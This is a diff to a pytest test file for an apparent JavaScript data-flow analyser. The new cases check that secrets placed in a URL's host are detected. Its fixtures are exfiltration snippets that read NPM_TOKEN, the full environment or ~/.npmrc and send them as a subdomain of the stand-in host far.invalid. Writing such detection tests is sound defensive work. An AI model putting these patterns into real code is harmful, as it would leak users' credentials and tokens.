@@ -2,8 +2,9 @@
 
 import pytest
 
+from pratique.analysis.facts import Capability
 from pratique.analysis.languages.javascript.addressing import all_values, carries_data, part, printed
-from tests.analysis.languages.javascript.reading import evaluated
+from tests.analysis.languages.javascript.reading import evaluated, flows
 
 
 @pytest.mark.parametrize(
@@ -96,3 +97,29 @@ def test_parts_of_a_url_object_are_told(key: str, expected: str) -> None:
 )
 def test_parts_that_are_not_known_are_not_told(text: str, key: str) -> None:
     assert part(text, key) is None
+
+
+@pytest.mark.parametrize(
+    ("data", "told"),
+    [
+        ("process.env.NPM_TOKEN", True),
+        ("process.env.USER", True),
+        ("require('os').hostname()", True),
+        ("require('fs').readFileSync(home + '/.npmrc', 'utf8')", True),
+        ("JSON.stringify(process.env)", True),
+        ("process.env.AWS_REGION", False),
+        ("process.argv[2]", False),
+    ],
+)
+@pytest.mark.parametrize(
+    "address",
+    ["`https://a.${E}.far.invalid/`", "'https://' + E + '.far.invalid/a'", "`https://${E}.far.invalid`"],
+)
+def test_what_is_no_setting_is_carried_in_the_midst_of_a_host(data: str, told: bool, address: str) -> None:
+    source = f"const E = {data}; require('https').get({address});"
+    assert told is any(flow[0] is Capability.NETWORK for flow in flows(source))
+
+
+@pytest.mark.parametrize("address", ["`https://${E}`", "`https://${E}.com/`", "`https://far.invalid:${E}/`"])
+def test_what_ends_before_a_domain_begins_is_a_setting(address: str) -> None:
+    assert not flows(f"const E = process.env.NPM_TOKEN; require('https').get({address});")
